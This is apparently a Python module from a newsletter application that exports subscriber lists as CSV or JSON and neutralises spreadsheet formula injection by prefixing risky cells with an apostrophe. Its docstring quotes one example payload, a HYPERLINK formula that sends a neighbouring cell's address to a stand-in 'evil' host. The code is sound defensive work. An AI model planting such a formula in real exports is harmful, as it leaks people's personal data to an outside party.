"""Subscriber lists written out as CSV or JSON (`subscribers export`).

Kept apart from `queries` because this is text formatting, not a database read: the rows
come from `queries.iter_rows`, whose keys (`queries.FIELDS`) are the CSV columns.

Names come from a public form, and a spreadsheet runs a cell that starts with `=`, `+`,
`-` or `@` (or tab/CR before one) as a formula: `=HYPERLINK("http://evil/?"&B2,"Click")`
would send a neighbour's address away. Every text cell we write is neutralised the OWASP
way, with a leading apostrophe. Only exports change; the stored value stays as typed.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable
from typing import Any

from newsletter.subscribers.queries import FIELDS

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """`value`, or a text value prefixed with `'` when a spreadsheet would run it."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def to_csv(rows: Iterable[dict[str, Any]]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=FIELDS, lineterminator="\n")
    writer.writeheader()
    for row in rows:
        writer.writerow({key: safe_cell(value) for key, value in row.items()})
    return out.getvalue()


def to_json(rows: Iterable[dict[str, Any]]) -> str:
    return json.dumps(list(rows), ensure_ascii=False, indent=2) + "\n"
